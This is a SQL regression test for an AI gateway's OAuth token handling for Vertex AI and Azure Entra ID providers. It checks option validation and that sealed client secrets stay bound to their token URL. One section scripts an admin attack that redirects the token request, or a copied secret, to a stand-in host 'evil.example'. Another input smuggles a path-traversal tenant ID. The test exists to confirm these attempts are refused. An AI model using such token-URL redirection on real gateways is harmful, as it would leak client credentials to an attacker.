-- tokens: providers reached with OAuth access tokens (issue 15): the options
-- of vertex_ai and of azure_openai with auth entra_id, checked when written;
-- the client secret bound to the token URL (a gateway admin who changes the
-- token URL, the tenant or auth must write the secret again, and a copied
-- sealed secret does not open); a token that cannot be had is a clear
-- failure without the secret.  The token flows against the mock's token
-- endpoints (a generated RSA key, expiry, refresh, 401, concurrency) are in
-- test/integration/tokens.sh.
SELECT base_url AS mock FROM ai_gateway.providers WHERE name = 'gemini' \gset
CREATE ROLE tk_ops IN ROLE ai_gateway_admin;     -- a gateway admin, not a superuser

-- options are checked when written (22023, naming the option)
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"auth": "oauth"}')$$) AS bad_auth;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"auth": "entra_id", "client_id": "c"}')$$) AS no_tenant;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"auth": "entra_id", "tenant_id": "t"}')$$) AS no_client;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"auth": "entra_id", "tenant_id": "t/../x", "client_id": "c"}')$$) AS bad_tenant;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"auth": "entra_id", "tenant_id": "t", "client_id": "c", "token_url": "ftp://x/token"}')$$) AS bad_token_url;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'azure_openai', '{"tenant_id": "t"}')$$) AS tenant_without_entra;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'openai', '{"auth": "entra_id"}')$$) AS auth_on_openai;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'vertex_ai', '{"location": "US Central"}')$$) AS bad_location;
SELECT try($$INSERT INTO ai_gateway.providers (name, kind, options) VALUES ('tk_x', 'gemini', '{"location": "us-central1"}')$$) AS location_on_gemini;

-- an Entra ID provider; its secret is bound to the token URL
INSERT INTO ai_gateway.providers (name, kind, base_url, api_key, options) VALUES
    ('tk_entra', 'azure_openai', :'mock', 'tk-client-secret-0123456789',
     jsonb_build_object('auth', 'entra_id', 'tenant_id', 'tenant-1', 'client_id', 'client-1',
                        'token_url', :'mock' || '/tenant-1/oauth2/v2.0/token'));
INSERT INTO ai_gateway.providers (name, kind, base_url, api_key, options) VALUES
    ('tk_entra_ms', 'azure_openai', 'https://r.openai.azure.com', 'tk-client-secret-0123456789',
     '{"auth": "entra_id", "tenant_id": "contoso.onmicrosoft.com", "client_id": "client-1"}');
SELECT name, api_key, api_key_encrypted LIKE 'aigk2:%' AS sealed FROM ai_gateway.providers
WHERE name LIKE 'tk\_entra%' ORDER BY name;

-- the attack: a gateway admin points the token request elsewhere (refused), or
-- copies the sealed secret to a provider of their own (it does not open)
SET ROLE tk_ops;
SELECT regexp_replace(try($$UPDATE ai_gateway.providers SET options = options || '{"token_url": "https://evil.example/t/oauth2/v2.0/token"}' WHERE name = 'tk_entra'$$),
                      '127.0.0.1:[0-9]+', '127.0.0.1:PORT', 'g') AS other_token_url;
SELECT try($$UPDATE ai_gateway.providers SET options = options || '{"tenant_id": "evil-tenant"}' WHERE name = 'tk_entra_ms'$$) AS other_tenant;
-- with token_url given, the tenant does not move the secret: it may change
SELECT try1($$UPDATE ai_gateway.providers SET options = options || '{"tenant_id": "tenant-2"}' WHERE name = 'tk_entra'$$) AS tenant_with_token_url;
SELECT try1($$UPDATE ai_gateway.providers SET options = options - 'token_url' WHERE name = 'tk_entra'$$) AS default_token_url;
SELECT try1($$UPDATE ai_gateway.providers SET options = '{}' WHERE name = 'tk_entra'$$) AS api_key_auth;
-- other option changes are an admin's to make; a new secret with a new token URL too
UPDATE ai_gateway.providers SET options = options || '{"timeout_ms": 20000}' WHERE name = 'tk_entra';
RESET ROLE;
SELECT api_key_encrypted AS sealed FROM ai_gateway.providers WHERE name = 'tk_entra' \gset
SET ROLE tk_ops;
INSERT INTO ai_gateway.providers (name, kind, base_url, api_key, api_key_encrypted, options)
SELECT 'tk_copy', kind, base_url, api_key, :'sealed',
       options || '{"token_url": "https://evil.example/t/oauth2/v2.0/token"}'
FROM ai_gateway.providers WHERE name = 'tk_entra';
RESET ROLE;
SELECT try1($$SELECT ai_complete('x', 'tk_copy/m')$$) AS copied;

-- no token, no call: a clear error that holds no secret
UPDATE ai_gateway.providers SET api_key = 'bad-tk-secret-0123456789' WHERE name = 'tk_entra';
SELECT regexp_replace(try($$SELECT ai_complete('x', 'tk_entra/m')$$), '127.0.0.1:[0-9]+', '127.0.0.1:PORT', 'g') AS bad_secret;
INSERT INTO ai_gateway.providers (name, kind, base_url, api_key) VALUES
    ('tk_vertex_bad', 'vertex_ai', :'mock', '{"client_email": "a@b", "token_uri": "http://x/token"}'),
    ('tk_vertex_nokey', 'vertex_ai', :'mock', NULL),
    ('tk_vertex_pem', 'vertex_ai', :'mock', '{"client_email": "a@b", "token_uri": "http://x/token", "project_id": "p",
      "private_key": "-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n"}');
SELECT try($$SELECT ai_complete('x', 'tk_vertex_bad/m')$$) AS no_private_key;
SELECT try($$SELECT ai_complete('x', 'tk_vertex_pem/m')$$) AS bad_pem;
SELECT try($$SELECT ai_complete('x', 'tk_vertex_nokey/m')$$) AS no_key;
SELECT try($$SELECT ai_embed('x', 'tk_vertex_bad/m')$$) AS vertex_embed;

DELETE FROM ai_gateway.providers WHERE name LIKE 'tk\_%';
DROP ROLE tk_ops;
